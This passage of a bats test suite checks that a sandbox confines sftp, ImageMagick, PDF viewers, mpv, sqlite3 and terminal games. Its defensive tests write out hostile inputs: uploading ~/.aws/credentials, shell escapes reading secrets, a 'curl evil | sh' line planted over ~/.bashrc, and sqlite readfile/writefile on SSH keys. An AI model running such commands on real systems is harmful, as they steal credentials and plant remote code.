	run --separate-stderr app -D "ports=$SSH_PORT" -- /usr/bin/sftp -q -F "$H/.ssh/config" -b - testhost <<CMDS
mkdir $REMOTE/up
put $H/Documents/report.bin $REMOTE/up/report.bin
rename $REMOTE/up/report.bin $REMOTE/up/final.bin
get $REMOTE/notes.txt $H/Downloads/notes.txt
lcd $H/Documents
get $REMOTE/up/final.bin back.bin
ls -1 $REMOTE/up
rm $REMOTE/notes.txt
CMDS
	ok
	cmp "$H/Documents/report.bin" "$REMOTE/up/final.bin" || fail "the upload differs"
	content "$H/Downloads/notes.txt" "from the server"
	cmp "$H/Documents/report.bin" "$H/Documents/back.bin" || fail "the download differs"
	[[ $output == *"$REMOTE/up/final.bin"* ]] || { show_run; fail "ls"; }
	[[ ! -e $REMOTE/notes.txt ]] || fail "rm did not remove the remote file"
}

# SSH_Client reads ~/.ssh by design: the secret here is ~/.aws/credentials.
# bats test_tags=app:sftp,fn:SSH_Client
@test "sftp (SSH_Client): no other secret, no ~/.bashrc, no shell, no other port" {
	need_commands /usr/bin/sftp
	start_sshd
	run --separate-stderr app -D "ports=$SSH_PORT" -- /usr/bin/sftp -q -F "$H/.ssh/config" -b - testhost \
		<<<"put $H/.aws/credentials $REMOTE/stolen"
	expect_status 1
	denied file_getattr "$H/.aws/credentials" sftp
	no_secret "$REMOTE"
	[[ ! -e $REMOTE/stolen ]] || fail "the credentials were uploaded"
	printf 'curl evil | sh\n' >"$REMOTE/evil"
	run --separate-stderr app -D "ports=$SSH_PORT" -- /usr/bin/sftp -q -F "$H/.ssh/config" -b - testhost \
		<<<"get $REMOTE/evil $H/.bashrc"
	expect_status 1
	denied file_write "$H/.bashrc" sftp
	bashrc_intact
	# Its shell escape: no shell is granted (sftp goes on, and exits 0).
	run --separate-stderr env SHELL=/bin/sh "$FBAC_RUN" "--log=$LOG" -D "ports=$SSH_PORT" \
		/usr/bin/sftp -q -F "$H/.ssh/config" -b - testhost <<<"!cat $H/.aws/credentials"
	[[ $stderr == *'Couldn'\''t execute "/bin/sh": Permission denied'* ]] || { show_run; fail "the shell escape ran"; }
	denied file_execute /usr/bin/dash sftp
	no_secret
	closed_port
	run --separate-stderr app -D "ports=$SSH_PORT" -- /usr/bin/sftp -q -F "$H/.ssh/config" -P "$NOPORT" \
		-b - testhost <<<"ls"
	expect_status 255
	denied network_outgoing "tcp:127.0.0.1:$NOPORT" ssh
}

# ---------------------------------------------------------------------------
# Image_Editor: convert, identify (ImageMagick 6)

# ppm FILE: a 4x2 picture, red on the left, blue on the right (made here,
# outside the sandbox).
ppm() {
	printf 'P3\n4 2\n255\n255 0 0  255 0 0  0 0 255  0 0 255\n255 0 0  255 0 0  0 0 255  0 0 255\n' >"$1"
}

# bats test_tags=app:convert,app:identify,fn:Image_Editor
@test "convert, identify (Image_Editor): convert and transform a picture in ~/Pictures" {
	need_commands /usr/bin/convert-im6.q16 /usr/bin/identify-im6.q16
	ppm "$H/Downloads/in.ppm"
	cd "$H/Pictures"
	run --separate-stderr app -- /usr/bin/convert "$H/Downloads/in.ppm" -rotate 90 -scale 200% out.png
	ok
	run --separate-stderr app -- /usr/bin/identify -format '%m %w %h\n' out.png
	ok
	[[ $output == "PNG 4 8" ]] || { show_run; fail "identify: $output"; }
	# The pixels: after a quarter turn clockwise red is on top.
	run --separate-stderr app -- /usr/bin/convert out.png -crop 1x1+0+0 -depth 8 txt:-
	ok
	[[ $output == *"#FF0000"* ]] || { show_run; fail "the top-left pixel is not red"; }
	run --separate-stderr app -- /usr/bin/convert out.png -crop 1x1+0+7 -depth 8 txt:-
	ok
	[[ $output == *"#0000FF"* ]] || { show_run; fail "the bottom-left pixel is not blue"; }
}

# ImageMagick's own network coders (http:, https:, url:) are refused by
# Debian's policy.xml before any connection, and Image_Editor has no
# network: no network case.
# bats test_tags=app:convert,app:identify,fn:Image_Editor
@test "convert, identify (Image_Editor): no ~/.ssh/id_rsa, no ~/.bashrc" {
	need_commands /usr/bin/convert-im6.q16 /usr/bin/identify-im6.q16
	ppm "$H/Pictures/in.ppm"
	cd "$H/Pictures"
	# The key as text, rendered into a picture.
	run --separate-stderr app -- /usr/bin/convert "text:$H/.ssh/id_rsa" "$H/Pictures/key.png"
	[[ $status -ne 0 ]] || { show_run; fail "convert read the key"; }
	denied file_getattr "$H/.ssh/id_rsa" convert-im6.q16
	[[ ! -e $H/Pictures/key.png ]] || fail "a picture of the key was made"
	run --separate-stderr app -- /usr/bin/identify -verbose "$H/.ssh/id_rsa"
	[[ $status -ne 0 ]] || { show_run; fail "identify read the key"; }
	denied file_read "$H/.ssh/id_rsa" identify-im6.q16
	no_secret "$H/Pictures"
	run --separate-stderr app -- /usr/bin/convert in.ppm "ppm:$H/.bashrc"
	[[ $status -ne 0 ]] || { show_run; fail "convert wrote ~/.bashrc"; }
	denied file_getattr "$H/.bashrc" convert-im6.q16
	bashrc_intact
}

# ---------------------------------------------------------------------------
# Document_Viewer: pdftotext, pdftoppm, pdfinfo (poppler)

# write_pdf FILE WIDTH HEIGHT FONT CONTENT: a one-page PDF of WIDTH x HEIGHT
# points whose page is the content stream CONTENT, with FONT as /F1;
# written by hand (the cross-reference offsets are computed).
write_pdf() {
	"$SYS_PY" - "$@" <<'PY'
import sys
path, width, height, font, content = sys.argv[1:6]
stream = content.encode()
objs = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %s %s] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>"
    % (width.encode(), height.encode()),
    b"<< /Type /Font /Subtype /Type1 /BaseFont /%s >>" % font.encode(),
    b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
]
out = bytearray(b"%PDF-1.4\n")
offsets = []
for i, o in enumerate(objs, 1):
    offsets.append(len(out))
    out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
xref = len(out)
out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
for off in offsets:
    out += b"%010d 00000 n \n" % off
out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
open(path, "wb").write(out)
PY
}

# pdf FILE TEXT: a one-page letter-size PDF showing TEXT.
pdf() {
	write_pdf "$1" 612 792 Helvetica "BT /F1 24 Tf 72 720 Td ($2) Tj ET"
}

# bats test_tags=app:pdftotext,app:pdftoppm,app:pdfinfo,fn:Document_Viewer
@test "pdftotext, pdftoppm, pdfinfo (Document_Viewer): read and render a PDF" {
	need_commands /usr/bin/pdftotext /usr/bin/pdftoppm /usr/bin/pdfinfo
	pdf "$H/Downloads/doc.pdf" "Hello from a PDF"
	cd "$H/Documents"
	run --separate-stderr app -- /usr/bin/pdftotext "$H/Downloads/doc.pdf" "$H/Documents/doc.txt"
	ok
	[[ $(cat "$H/Documents/doc.txt") == "Hello from a PDF"* ]] || fail "text: $(cat "$H/Documents/doc.txt")"
	run --separate-stderr app -- /usr/bin/pdftotext "$H/Downloads/doc.pdf" -
	ok
	[[ $output == "Hello from a PDF"* ]] || { show_run; fail "stdout"; }
	run --separate-stderr app -- /usr/bin/pdfinfo "$H/Downloads/doc.pdf"
	ok
	[[ $output == *"Pages:"*1* ]] || { show_run; fail "pdfinfo"; }
	run --separate-stderr app -- /usr/bin/pdftoppm -r 20 -gray "$H/Downloads/doc.pdf" "$H/Pictures/page"
	ok
	[[ -s $H/Pictures/page-1.pgm ]] || fail "pdftoppm made no page-1.pgm: $(ls "$H/Pictures")"
	[[ $(head -c 2 "$H/Pictures/page-1.pgm") == P5 ]] || fail "not a PGM"
	# 8.5 x 11 inches at 20 dpi.
	[[ $(head -n 2 "$H/Pictures/page-1.pgm" | tail -n 1) == "170 220" ]] || fail "wrong page size"
	# The page is not blank: the text left some dark pixels.
	tail -c +16 "$H/Pictures/page-1.pgm" | od -An -tu1 -v | tr -s ' ' '\n' |
		awk '$1 != "" && $1 < 128 { dark++ } END { exit !(dark > 0) }' ||
		fail "the rendered page is blank"
}

# poppler has no means to connect: no network case.
# bats test_tags=app:pdftotext,app:pdftoppm,fn:Document_Viewer
@test "pdftotext, pdftoppm (Document_Viewer): no ~/.ssh/id_rsa, no ~/.bashrc" {
	need_commands /usr/bin/pdftotext /usr/bin/pdftoppm
	pdf "$H/Downloads/doc.pdf" "Hello from a PDF"
	run --separate-stderr app -- /usr/bin/pdftotext "$H/.ssh/id_rsa" -
	[[ $status -ne 0 ]] || { show_run; fail "pdftotext read the key"; }
	denied file_read "$H/.ssh/id_rsa" pdftotext
	no_secret
	run --separate-stderr app -- /usr/bin/pdftotext "$H/Downloads/doc.pdf" "$H/.bashrc"
	[[ $status -ne 0 ]] || { show_run; fail "pdftotext wrote ~/.bashrc"; }
	denied file_write "$H/.bashrc" pdftotext
	bashrc_intact
	run --separate-stderr app -- /usr/bin/pdftoppm -r 20 "$H/Downloads/doc.pdf" "$H/Downloads/page"
	[[ $status -ne 0 ]] || { show_run; fail "pdftoppm wrote into ~/Downloads"; }
	denied file_create "$H/Downloads/page-1.ppm" pdftoppm
}

# colour_pdf FILE TEXT: a one-page PDF of 300 x 200 points: white, a red
# block (20,20)-(140,100) from the top left corner, and TEXT in blue,
# large, below it.
colour_pdf() {
	write_pdf "$1" 300 200 Helvetica-Bold \
		"1 0 0 rg 20 100 120 80 re f 0 0 1 rg BT /F1 40 Tf 20 40 Td ($2) Tj ET"
}

# pixel FILE X Y: the colour of a pixel of a picture, as #RRGGBB.
pixel() {
	/usr/bin/convert-im6.q16 "$1" -crop "1x1+$2+$3" -depth 8 txt:- | grep -o '#[0-9A-F]\{6\}' | head -n 1
}

# bats test_tags=app:mutool,fn:Document_Viewer
@test "mutool (Document_Viewer): renders, extracts and merges PDFs into ~/Pictures and ~/Documents" {
	need_commands /usr/bin/mutool /usr/bin/convert-im6.q16 /usr/bin/pdfinfo
	colour_pdf "$H/Downloads/doc.pdf" "Hello mutool"
	pdf "$H/Documents/other.pdf" "Second document"
	cd "$H/Documents"
	run --separate-stderr app -- /usr/bin/mutool draw -r 72 -o "$H/Pictures/page-%d.png" "$H/Downloads/doc.pdf"
	ok
	run /usr/bin/identify-im6.q16 -format '%m %w %h' "$H/Pictures/page-1.png"
	[[ $output == "PNG 300 200" ]] || { show_run; fail "the page picture: $output"; }
	[[ $(pixel "$H/Pictures/page-1.png" 80 60) == "#FF0000" ]] || fail "no red block"
	[[ $(pixel "$H/Pictures/page-1.png" 250 20) == "#FFFFFF" ]] || fail "the page is not white"
	run --separate-stderr app -- /usr/bin/mutool draw -F txt "$H/Downloads/doc.pdf"
	ok
	[[ $output == "Hello mutool"* ]] || { show_run; fail "text"; }
	run --separate-stderr app -- /usr/bin/mutool convert -F text -o "$H/Documents/doc.txt" "$H/Downloads/doc.pdf"
	ok
	[[ $(cat "$H/Documents/doc.txt") == "Hello mutool"* ]] || fail "convert: $(cat "$H/Documents/doc.txt")"
	run --separate-stderr app -- /usr/bin/mutool merge -o "$H/Documents/both.pdf" "$H/Downloads/doc.pdf" other.pdf
	ok
	run --separate-stderr app -- /usr/bin/mutool info both.pdf
	ok
	[[ $output == *"Pages: 2"* ]] || { show_run; fail "info"; }
	[[ $(pdfinfo both.pdf | sed -n 's/^Pages: *//p') == 2 ]] || fail "the merged PDF has not two pages"
	[[ $(pdftotext -f 2 both.pdf -) == "Second document"* ]] || fail "the second page is wrong"
}

# mutool has no means to connect (its JavaScript has no network): no
# network case.
# bats test_tags=app:mutool,fn:Document_Viewer
@test "mutool (Document_Viewer): no ~/.ssh/id_rsa, no ~/.bashrc, no other folder written" {
	need_commands /usr/bin/mutool
	colour_pdf "$H/Downloads/doc.pdf" "Hello mutool"
	cd "$H/Documents"
	run --separate-stderr app -- /usr/bin/mutool show "$H/.ssh/id_rsa" trailer
	[[ $status -ne 0 ]] || { show_run; fail "mutool read the key"; }
	denied file_read "$H/.ssh/id_rsa" mutool
	no_secret
	# The key as the document to convert, into a granted folder.
	run --separate-stderr app -- /usr/bin/mutool convert -F text -o "$H/Documents/key.txt" "$H/.ssh/id_rsa"
	[[ $status -ne 0 ]] || { show_run; fail "mutool converted the key"; }
	denied file_read "$H/.ssh/id_rsa" mutool
	no_secret "$H/Documents"
	run --separate-stderr app -- /usr/bin/mutool draw -F txt -o "$H/.bashrc" "$H/Downloads/doc.pdf"
	[[ $status -ne 0 ]] || { show_run; fail "mutool wrote ~/.bashrc"; }
	# (mutool removes the output file before it writes it.)
	denied file_delete "$H/.bashrc" mutool
	bashrc_intact
	# ~/Downloads is read-only for it (the removal comes first, and ends it).
	run --separate-stderr app -- /usr/bin/mutool draw -o "$H/Downloads/page.png" "$H/Downloads/doc.pdf"
	[[ $status -ne 0 ]] || { show_run; fail "mutool wrote into ~/Downloads"; }
	denied file_delete "$H/Downloads/page.png" mutool
	[[ ! -e $H/Downloads/page.png ]] || fail "a page was written into ~/Downloads"
}

# ---------------------------------------------------------------------------
# Media_Player: mpv; feh (Document_Viewer for pictures)

# wav FILE: one second of a 8 kHz tone.
wav() {
	"$SYS_PY" - "$1" <<'PY'
import math, struct, sys, wave
w = wave.open(sys.argv[1], "wb")
w.setnchannels(1); w.setsampwidth(2); w.setframerate(8000)
w.writeframes(b"".join(struct.pack("<h", int(8000 * math.sin(i * 0.3))) for i in range(8000)))
w.close()
PY
}

# bats test_tags=app:mpv,fn:Media_Player
@test "mpv (Media_Player): plays a file from ~/Music" {
	need_commands /usr/bin/mpv
	wav "$H/Music/tone.wav"
	run --separate-stderr app -- /usr/bin/mpv --no-terminal --ao=null --vo=null \
		"$H/Music/tone.wav"
	expect_status 0
	clean
	: >"$LOG"
	run --separate-stderr app -- /usr/bin/mpv --ao=null --vo=null --term-status-msg= \
		--term-playing-msg='playing ${filename} ${=duration}' "$H/Music/tone.wav" </dev/null
	expect_status 0
	clean
	[[ $output == *"playing tone.wav 1.0"* && $output == *"(End of file)"* ]] ||
		{ show_run; fail "mpv did not play the file to its end"; }
}

# bats test_tags=app:mpv,fn:Media_Player
@test "mpv (Media_Player): no ~/.ssh/id_rsa, no ~/.bashrc, no stream from an ungranted port" {
	need_commands /usr/bin/mpv
	wav "$H/Music/tone.wav"
	run --separate-stderr app -- /usr/bin/mpv --ao=null --vo=null --really-quiet "$H/.ssh/id_rsa" </dev/null
	[[ $status -ne 0 ]] || { show_run; fail "mpv played the key"; }
	denied file_read "$H/.ssh/id_rsa" mpv
	no_secret
	# mpv's own log file, pointed at ~/.bashrc.
	run --separate-stderr app -- /usr/bin/mpv --ao=null --vo=null --really-quiet \
		"--log-file=$H/.bashrc" "$H/Music/tone.wav" </dev/null
	denied file_write "$H/.bashrc" mpv
	bashrc_intact
	# Its configuration (scripts run code) is read-only.
	mkdir -p "$H/.config/mpv"
	run --separate-stderr app -- /usr/bin/mpv --ao=null --vo=null --really-quiet \
		"--log-file=$H/.config/mpv/mpv.conf" "$H/Music/tone.wav" </dev/null
	denied file_create "$H/.config/mpv/mpv.conf" mpv
	[[ ! -e $H/.config/mpv/mpv.conf ]] || fail "mpv wrote its own configuration"
	# Streaming: Media_Player grants no network.
	cp "$H/Music/tone.wav" "$BATS_TEST_TMPDIR/tone.wav"
	start_http "$BATS_TEST_TMPDIR"
	run --separate-stderr app -- /usr/bin/mpv --ao=null --vo=null --really-quiet \
		"http://127.0.0.1:$PORT/tone.wav" </dev/null
	[[ $status -ne 0 ]] || { show_run; fail "mpv streamed"; }
	denied network_outgoing "tcp:127.0.0.1:$PORT" mpv
}

# bats test_tags=app:feh,fn:Document_Viewer
@test "feh (Document_Viewer): lists a picture in ~/Pictures" {
	need_commands /usr/bin/feh /usr/bin/convert-im6.q16
	/usr/bin/convert-im6.q16 -size 4x2 xc:red "$H/Pictures/red.png"
	run --separate-stderr app -- /usr/bin/feh -l "$H/Pictures/red.png"
	ok
	[[ ${lines[1]} == $'1\tpng\t4\t2\t'*"$H/Pictures/red.png" ]] || { show_run; fail "feh -l"; }
}

# feh has no means to connect without a shell (its --action commands need
# one, which the policy does not grant): no network case.
# bats test_tags=app:feh,fn:Document_Viewer
@test "feh (Document_Viewer): no ~/.ssh/id_rsa, no ~/.bashrc" {
	need_commands /usr/bin/feh /usr/bin/convert-im6.q16
	/usr/bin/convert-im6.q16 -size 4x2 xc:red "$H/Pictures/red.png"
	run --separate-stderr app -- /usr/bin/feh -l "$H/.ssh/id_rsa"
	[[ $status -ne 0 ]] || { show_run; fail "feh listed the key"; }
	denied file_getattr "$H/.ssh/id_rsa" feh
	no_secret
	# -L writes the list of files it showed.
	run --separate-stderr app -- /usr/bin/feh -l -L "$H/.bashrc" "$H/Pictures/red.png"
	bashrc_intact
}

# ---------------------------------------------------------------------------
# Document_Viewer in a window: mupdf, on an Xvfb display

# start_window_xvfb: start_xvfb (helpers.bash), with the tools that find
# windows and take screenshots.
start_window_xvfb() {
	need_commands /usr/bin/xwd /usr/bin/xdotool /usr/bin/convert-im6.q16
	start_xvfb
}

# screenshot FILE: the whole screen, as a PNG.
screenshot() {
	xwd -root -display ":$DISPLAY_N" | /usr/bin/convert-im6.q16 xwd:- "png:$1"
}

# share FILE HEX: the fraction of the pixels of FILE that are #HEX (within
# 10 %), as a decimal number.
share() {
	/usr/bin/convert-im6.q16 "$1" -fuzz 10% -fill black +opaque "#$2" -fill white -opaque "#$2" \
		-colorspace gray -format '%[fx:mean]' info:
}

# more FRACTION THAN: FRACTION > THAN.
more() {
	awk -v a="$1" -v b="$2" 'BEGIN { exit !(a + 0 > b + 0) }'
}

# wait_shown FILE: wait (30 s: CI's 2 CPUs are busy) until the screen
# shows the page of colour_pdf: at least 3 % of it red (the block) and
# 0.3 % blue (the text). FILE is the last screenshot.
wait_shown() {
	local red blue end=$((SECONDS + 30))
	while :; do
		screenshot "$1" || return
		red=$(share "$1" FF0000)
		blue=$(share "$1" 0000FF)
		more "$red" 0.03 && more "$blue" 0.003 && return 0
		((SECONDS < end)) || break
		sleep 0.2
	done
	fail "the screen does not show the document (red $red, blue $blue): $(cat "$BATS_TEST_TMPDIR/viewer.err" 2>/dev/null)"
}

# viewer COMMAND...: COMMAND in the background on the display; its output
# goes to $BATS_TEST_TMPDIR/viewer.out and viewer.err, its exit status to
# viewer.status.
viewer() {
	rm -f "$BATS_TEST_TMPDIR/viewer.status"
	(
		DISPLAY=":$DISPLAY_N" "$@" </dev/null >"$BATS_TEST_TMPDIR/viewer.out" 2>"$BATS_TEST_TMPDIR/viewer.err" 3>&-
		echo $? >"$BATS_TEST_TMPDIR/viewer.status"
	) &
	track $!
}

# viewer_quit TITLE: press q in the window whose title starts with TITLE,
# wait (30 s) for the viewer to end and set status to its exit status.
viewer_quit() {
	local i w= end=$((SECONDS + 30))
	while ((SECONDS < end)); do
		w=$(DISPLAY=":$DISPLAY_N" xdotool search --name "^$1" 2>/dev/null | head -n 1)
		[[ -n $w ]] && break
		sleep 0.1
	done
	[[ -n $w ]] || fail "no window named $1" || return
	# The key press alone: the viewer is gone before a release could reach it.
	DISPLAY=":$DISPLAY_N" xdotool keydown --window "$w" q 2>/dev/null
	for ((i = 0; i < 300; i++)); do
		[[ -s $BATS_TEST_TMPDIR/viewer.status ]] && break
		sleep 0.1
	done
	[[ -s $BATS_TEST_TMPDIR/viewer.status ]] || fail "the viewer did not quit" || return
	status=$(cat "$BATS_TEST_TMPDIR/viewer.status")
	output=$(cat "$BATS_TEST_TMPDIR/viewer.out")
	stderr=$(cat "$BATS_TEST_TMPDIR/viewer.err")
	mapfile -t stderr_lines <"$BATS_TEST_TMPDIR/viewer.err"
}

# bats test_tags=app:mupdf,fn:Document_Viewer
@test "mupdf (Document_Viewer): shows a PDF, and a compressed one, in a window on Xvfb" {
	need_commands /usr/bin/mupdf /usr/lib/mupdf/mupdf-x11 /usr/bin/gzip /usr/bin/xz
	start_window_xvfb
	colour_pdf "$H/Documents/doc.pdf" "Hello mupdf"
	screenshot "$BATS_TEST_TMPDIR/before.png"
	[[ $(/usr/bin/identify-im6.q16 -format '%k' "$BATS_TEST_TMPDIR/before.png") == 1 ]] ||
		fail "the screen is not blank at first"
	viewer "$FBAC_RUN" "--log=$LOG" /usr/bin/mupdf "$H/Documents/doc.pdf"
	wait_shown "$BATS_TEST_TMPDIR/shown.png"
	viewer_quit "doc.pdf"
	ok
	# /usr/bin/mupdf uncompresses a .gz or .xz document into /tmp first.
	local c
	for c in gzip xz; do
		"$c" -k "$H/Documents/doc.pdf"
		[[ $c == gzip ]] && c=gz
		viewer "$FBAC_RUN" "--log=$LOG" /usr/bin/mupdf "$H/Documents/doc.pdf.$c"
		wait_shown "$BATS_TEST_TMPDIR/shown.$c.png"
		viewer_quit file
		ok
	done
}

# bats test_tags=app:mupdf,fn:Document_Viewer
@test "unprivileged: mupdf-gl shows a PDF in a window on Xvfb" {
	require_unprivileged
	need_commands /usr/bin/mupdf-gl
	start_window_xvfb
	colour_pdf "$H/Downloads/doc.pdf" "Hello mupdf"
	local uh
	uh=$(unprivileged_home)
	LOG=$uh/events.jsonl
	viewer run_unprivileged "$FBAC_RUN" "--log=$LOG" /usr/bin/mupdf-gl "$uh/Downloads/doc.pdf"
	wait_shown "$BATS_TEST_TMPDIR/shown.png"
	viewer_quit "doc.pdf"
	ok
	# It remembers where it was in the document.
	grep -q -F "$uh/Downloads/doc.pdf" "$uh/.mupdf.history" ||
		fail "no history: $(cat "$uh/.mupdf.history" 2>&1)"
}

# Neither viewer writes a file in the user's folders nor has any means to
# connect: no ~/.bashrc or network case. What /usr/bin/mupdf writes itself,
# the uncompressed copy of a document, goes to $TMPDIR, and not into the
# home when $TMPDIR names it.
# bats test_tags=app:mupdf,fn:Document_Viewer
@test "mupdf (Document_Viewer): no ~/.ssh/id_rsa on the screen, no copy in the home" {
	need_commands /usr/bin/mupdf /usr/bin/mupdf-gl /usr/bin/gzip
	start_window_xvfb
	DISPLAY=":$DISPLAY_N" run --separate-stderr app -- /usr/bin/mupdf "$H/.ssh/id_rsa"
	expect_status 1
	denied file_read "$H/.ssh/id_rsa" mupdf-x11
	[[ $stderr == *"cannot open document"* ]] || { show_run; fail "no error from mupdf"; }
	no_secret
	screenshot "$BATS_TEST_TMPDIR/key.png"
	[[ $(/usr/bin/identify-im6.q16 -format '%k' "$BATS_TEST_TMPDIR/key.png") == 1 ]] ||
		fail "something was drawn"
	colour_pdf "$H/Documents/doc.pdf" "Hello mupdf"
	gzip "$H/Documents/doc.pdf"
	TMPDIR=$H DISPLAY=":$DISPLAY_N" run --separate-stderr app -- /usr/bin/mupdf "$H/Documents/doc.pdf.gz"
	[[ $status -ne 0 ]] || { show_run; fail "mupdf showed the document"; }
	local l found=
	for l in "${stderr_lines[@]}"; do
		[[ $l == "fbac: denied file_create '$H/file"??????".pdf' for mktemp["+([0-9])"]: "* ]] && found=1
	done
	[[ -n $found ]] || { show_run; fail "no denial for the copy in the home"; }
	grep -q -F "\"operation\": \"file_create\", \"object\": \"$H/file" "$LOG" || fail "no deny event"
	[[ -z $(find "$H" -maxdepth 1 -name 'file*') ]] || fail "a copy was made in the home"
}

# ---------------------------------------------------------------------------
# Terminal_Application: sqlite3

# bats test_tags=app:sqlite3,fn:Terminal_Application
@test "sqlite3 (Terminal_Application): a database in ~/Documents" {
	need_commands /usr/bin/sqlite3
	run --separate-stderr app -- /usr/bin/sqlite3 "$H/Documents/shop.db" \
		'create table items(name text, n int); insert into items values ("pear", 2), ("fig", 5);' \
		'select name || "=" || n from items order by n desc;'
	ok
	[[ $output == $'fig=5\npear=2' ]] || { show_run; fail "query"; }
	run --separate-stderr app -- /usr/bin/sqlite3 "$H/Documents/shop.db" 'select sum(n) from items;'
	ok
	[[ $output == 7 ]] || { show_run; fail "sum"; }
}

# sqlite3 has no means to connect (and .shell/.system need a shell, not
# granted): no network case.
# bats test_tags=app:sqlite3,fn:Terminal_Application
@test "sqlite3 (Terminal_Application): no ~/.ssh/id_rsa, no ~/.bashrc" {
	need_commands /usr/bin/sqlite3
	run --separate-stderr app -- /usr/bin/sqlite3 "$H/Documents/x.db" "select readfile('$H/.ssh/id_rsa');"
	denied file_read "$H/.ssh/id_rsa" sqlite3
	no_secret "$H/Documents"
	run --separate-stderr app -- /usr/bin/sqlite3 "$H/Documents/x.db" "select writefile('$H/.bashrc', 'evil');"
	denied file_write "$H/.bashrc" sqlite3
	bashrc_intact
	run --separate-stderr app -- /usr/bin/sqlite3 "$H/Documents/x.db" '.shell id'
	denied file_execute /usr/bin/dash sqlite3
}

# ---------------------------------------------------------------------------
# Game: quiz (bsdgames), in tmux

# bats test_tags=app:bsdgames,fn:Game
@test "quiz (Game): plays a round on a terminal" {
	need_commands /usr/games/quiz
	tty_start -- /usr/games/quiz state capital
	wait_pane "?"
	# An empty answer makes quiz show the right one; ^D ends the game.
	keys Enter
	sleep 0.3
	keys C-d
	wait_pane "fbac-run-status=0"
	[[ $(pane) == *"Rights 0, wrongs "*", score 0%"* ]] || fail "no score: $(pane)"
	tty_clean
}

# quiz has no means to connect or to write a file: its one way to reach a
# file of the user's is -i, the question index.
# bats test_tags=app:bsdgames,fn:Game
@test "quiz (Game): no ~/.ssh/id_rsa" {
	need_commands /usr/games/quiz
	run --separate-stderr app -- /usr/games/quiz -i "$H/.ssh/id_rsa" state capital
	[[ $status -ne 0 ]] || { show_run; fail "quiz read the key"; }
	denied file_read "$H/.ssh/id_rsa" quiz
	no_secret
}

# ---------------------------------------------------------------------------
# Network_Game: hunt (bsdgames), in tmux, against a loopback huntd

# udp_port_below LOW HIGH: a UDP port of 127.0.0.1 in LOW..HIGH nobody
# listens on (right now).
udp_port_below() {
	"$SYS_PY" - "$1" "$2" <<'PY'
import random, socket, sys
low, high = int(sys.argv[1]), int(sys.argv[2])
for port in random.sample(range(low, high + 1), 200):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.bind(("0.0.0.0", port))
    except OSError:
        continue
    print(port)
    break
else:
    sys.exit("no free UDP port")
PY
}

# start_huntd PORT: a hunt game server (huntd -s, outside the sandbox),
# meeting its players on UDP PORT; GAME_PORTS are the TCP ports it listens
# on (the game, and its statistics), which the kernel chose, comma-separated.
# huntd -s goes into the background on its own: its process is found by
# its port, and teardown kills it.
start_huntd() {
	need_commands /usr/sbin/huntd ss
	HUNT_PORT=$1
	if ss -Hlun "sport = :$HUNT_PORT" | grep -q .; then
		skip_or_fail "UDP port $HUNT_PORT is in use: $(ss -Hlunp "sport = :$HUNT_PORT")"
	fi
	/usr/sbin/huntd -s -p "$HUNT_PORT" </dev/null >"$BATS_TEST_TMPDIR/huntd.out" 2>&1 3>&-
	local pid i
	for ((i = 0; i < 200; i++)); do
		pid=$(ss -Hlunp "sport = :$HUNT_PORT" | sed -n 's/.*("huntd",pid=\([0-9]*\),.*/\1/p' | head -n 1)
		if [[ -n $pid ]]; then
			track "$pid"
			GAME_PORTS=$(ss -Hltnp | awk -v p="(\"huntd\",pid=$pid," 'index($0, p) { n = split($4, a, ":"); print a[n] }' |
				sort -n | paste -s -d, -)
			[[ $GAME_PORTS == *,* ]] && return 0
		fi
		sleep 0.05
	done
	fail "huntd did not start: $(cat "$BATS_TEST_TMPDIR/huntd.out")"
}

# hunt_start NAME [FBAC-RUN-OPTION...] -- HUNT-ARG...: /usr/games/hunt under
# fbac-run in the tmux session NAME; after it, the screen shows
# "fbac-run-status=N". Debian's hunt sends the name of the terminal on its
# standard error to huntd, and crashes when standard error is not a
# terminal: it stays on the terminal here, so fbac-run's denial lines go
# there too (where curses soon draws over them), and the checks read the
# log, which has every denial.
hunt_start() {
	need_commands tmux /usr/games/hunt
	local name=$1
	shift
	local -a opts=()
	while [[ $# -gt 0 && $1 != -- ]]; do
		opts+=("$1")
		shift
	done
	shift
	local script=$BATS_TEST_TMPDIR/hunt-$name.sh pidf=$BATS_TEST_TMPDIR/hunt-$name.pid
	{
		printf 'cd %q\n' "$PWD"
		declare -p PATH FBAC_DATADIR HOME FBAC_USER_DIR LC_ALL ${FBAC_ADMIN_DIR:+FBAC_ADMIN_DIR}
		printf 'export TERM=%q\n' "${HUNT_TERM:-xterm-256color}"
		printf 'echo $$ >%q\n' "$pidf"
		printf 'exec 3>&-\n'
		printf '%q ' "$FBAC_RUN" "--log=$LOG" "${opts[@]}" /usr/games/hunt "$@"
		printf '\necho "fbac-run-status=$?"\nsleep 60\n'
	} >"$script"
	TMUX_SOCK=$BATS_TEST_TMPDIR/tmux.sock
	tmux -S "$TMUX_SOCK" -f /dev/null new-session -d -s "$name" -x 160 -y 40 "bash $script" 3>&-
	local i
	for ((i = 0; i < 400; i++)); do
		[[ -s $pidf ]] && break
		sleep 0.05
	done
	track "$(cat "$pidf")"
}

# hpane NAME: the screen of session NAME.
hpane() {
	tmux -S "$TMUX_SOCK" capture-pane -p -J -t "$1"
}

# hkeys NAME KEY...: type into session NAME.
hkeys() {
	local name=$1
	shift
	tmux -S "$TMUX_SOCK" send-keys -t "$name" "$@"
}

# wait_hpane NAME TEXT [SECONDS]: wait until the screen of NAME shows TEXT.
wait_hpane() {
	local i
	for ((i = 0; i < ${3:-10} * 20; i++)); do
		[[ $(hpane "$1") == *"$2"* ]] && return 0
		sleep 0.05
	done
	fail "the terminal of $1 does not show '$2':"$'\n'"$(hpane "$1")"
}

# hunt_join NAME: answer the team question: the player enters the maze.
hunt_join() {
	wait_hpane "$1" "Enter your team"
	hkeys "$1" Enter
	wait_hpane "$1" "Ammo:"
}

# hunt_denied OP OBJECT: the log has the denial of OP on OBJECT by hunt.
hunt_denied() {
	grep -F -- "\"exe\": \"/usr/games/hunt\"" "$LOG" 2>/dev/null |
